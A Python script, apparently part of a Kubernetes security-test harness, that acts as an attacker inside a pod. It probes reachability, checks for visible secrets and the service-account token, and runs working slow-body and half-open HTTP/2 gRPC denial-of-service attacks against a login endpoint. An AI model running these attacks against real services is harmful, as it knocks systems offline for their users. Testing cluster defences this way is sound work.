"""What an attacker does from inside a pod. It needs Python's standard library alone, since it is sent there as text.

    python3 -c "$(cat in_pod.py)" request '{"url": "http://..."}'

Each command takes its arguments as JSON, and prints what happened as JSON.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import http.client
import json
import os
import resource
import socket
import sys
import time
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

_TOKEN = Path("/var/run/secrets/kubernetes.io/serviceaccount/token")
_TIMEOUT = 5.0
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _GOAWAY = 0, 1, 3, 4, 7
_ACK = _END_STREAM = 1
_END_HEADERS = 4
_MAX_CONCURRENT_STREAMS = 3


def request(url: str, method: str = "GET", headers: dict[str, str] | None = None, body: str = "") -> dict[str, Any]:
    """Send one HTTP request; return its status and body, or status 0 where nothing answers within five seconds."""
    parts = urlsplit(url)
    connection = http.client.HTTPConnection(parts.hostname or "", parts.port or 80, timeout=_TIMEOUT)
    try:
        path = f"{parts.path or '/'}?{parts.query}" if parts.query else parts.path or "/"
        connection.request(method, path, body.encode(), headers or {})
        answer = connection.getresponse()
        return {"status": answer.status, "body": answer.read().decode(errors="replace")[:2000]}
    except (OSError, http.client.HTTPException) as error:
        return {"status": 0, "body": repr(error)}
    finally:
        connection.close()


def connect(host: str, port: int) -> dict[str, Any]:
    """Say whether a TCP connection is accepted."""
    try:
        socket.create_connection((host, port), _TIMEOUT).close()
    except OSError as error:
        return {"connected": False, "error": repr(error)}
    return {"connected": True}


def secrets() -> dict[str, Any]:
    """List what this container can see of secrets: SHA-256 of its variables, and whether it has a token for the API."""
    values = [hashlib.sha256(value.encode()).hexdigest() for value in os.environ.values()]
    return {
        "variables": values,
        "token": _TOKEN.exists(),
    }


def slow_bodies(host: str, port: int, authority: str, connections: int, seconds: float) -> dict[str, Any]:
    """Keep so many logins open, each with a body of which one byte comes in a second; open anew what is closed."""
    _allow_files(connections)
    head = (
        f"POST /v1/sessions HTTP/1.1\r\nhost: {authority}\r\n"
        "content-type: application/json\r\ncontent-length: 500\r\n\r\n"
    )
    return asyncio.run(_repeat(connections, seconds, lambda until: _dribble(host, port, head.encode(), until)))


def half_open_calls(
    host: str, port: int, call: tuple[str, str], connections: int, each: int, seconds: float
) -> dict[str, Any]:
    """Keep connections open with so many gRPC calls (authority and path) on each, of which no message ever comes."""
    _allow_files(connections)
    headers = _header_block(*call)
    attack = lambda until: _open_calls(host, port, headers, each, until)  # noqa: E731 - for one use
    return asyncio.run(_repeat(connections, seconds, attack))


def settings(host: str, port: int) -> dict[str, Any]:
    """Return the number of streams that an HTTP/2 server lets one connection have; 0 where it sets none."""
    with socket.create_connection((host, port), _TIMEOUT) as connection:
        connection.sendall(_PREFACE + _frame(_SETTINGS))
        with connection.makefile("rb") as incoming:
            while True:
                length, kind = _frame_head(incoming.read(9))[:2]
                payload = incoming.read(length)
                if kind == _SETTINGS:
                    break
    pairs = [payload[at : at + 6] for at in range(0, len(payload), 6)]
    found = {int.from_bytes(pair[:2], "big"): int.from_bytes(pair[2:], "big") for pair in pairs}
    return {"max_concurrent_streams": found.get(_MAX_CONCURRENT_STREAMS, 0)}


async def _repeat(connections: int, seconds: float, attack: Any) -> dict[str, Any]:
    """Run `attack` on each connection until the time is over; count what was opened, and how it ended."""
    until = time.monotonic() + seconds
    counts: dict[str, int] = {}

    async def one() -> None:
        while time.monotonic() < until:
            ends: dict[str, int] = {"connections": 1}
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                ends |= await attack(until)
            for name, count in ends.items():
                counts[name] = max(counts.get(name, 0), count) if name == "longest" else counts.get(name, 0) + count
            await asyncio.sleep(1)

    await asyncio.gather(*(one() for _ in range(connections)))
    return counts


async def _dribble(host: str, port: int, head: bytes, until: float) -> dict[str, int]:
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(head)
        answer = asyncio.ensure_future(reader.readline())
        while time.monotonic() < until and not answer.done():
            writer.write(b" ")
            await writer.drain()
            await asyncio.wait([answer], timeout=1)
        if not answer.done():
            answer.cancel()
            return {"open at the end": 1}
        words = answer.result().decode(errors="replace").split(" ")
        return {words[1] if len(words) > 1 else "closed": 1}
    finally:
        writer.close()


async def _open_calls(host: str, port: int, headers: bytes, each: int, until: float) -> dict[str, int]:
    """One connection's worth of calls: HEADERS without END_STREAM, and nothing after them."""
    reader, writer = await asyncio.open_connection(host, port)
    ends = {"calls": 0, "refused": 0, "answered": 0, "longest": 0}
    began = time.monotonic()
    try:
        writer.write(_PREFACE + _frame(_SETTINGS))
        for stream in range(1, 2 * each, 2):
            writer.write(_frame(_HEADERS, _END_HEADERS, stream, headers))
            ends["calls"] += 1
        await writer.drain()
        while ends["refused"] + ends["answered"] < each and (left := until - time.monotonic()) > 0:
            try:
                head = await asyncio.wait_for(reader.readexactly(9), left)
            except TimeoutError:
                break
            length, kind, flags, _ = _frame_head(head)
            await reader.readexactly(length)
            if kind == _SETTINGS and not flags & _ACK:
                writer.write(_frame(_SETTINGS, _ACK))
            elif kind == _RST_STREAM:
                ends["refused"] += 1
            elif kind in (_HEADERS, _DATA) and flags & _END_STREAM:
                ends["answered"] += 1
            elif kind == _GOAWAY:
                break
            if kind in (_RST_STREAM, _HEADERS):
                ends["longest"] = int(time.monotonic() - began)
        return ends
    finally:
        writer.close()


def _header_block(authority: str, path: str) -> bytes:
    """HPACK without its table and its Huffman code: each header is a literal."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": authority,
        "content-type": "application/grpc",
        "te": "trailers",
    }
    texts = [text.encode() for pair in fields.items() for text in pair]
    strings = [bytes([len(text)]) + text for text in texts]
    return b"".join(b"\0" + name + value for name, value in zip(strings[::2], strings[1::2], strict=True))


def _frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _frame_head(head: bytes) -> tuple[int, int, int, int]:
    return int.from_bytes(head[:3], "big"), head[3], head[4], int.from_bytes(head[5:], "big")


def _allow_files(wanted: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    enough = wanted + 100 if hard == resource.RLIM_INFINITY else min(wanted + 100, hard)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, enough), hard))


if __name__ == "__main__":
    done = globals()[sys.argv[1]](**json.loads(sys.argv[2]))
    sys.stdout.write(json.dumps(done))
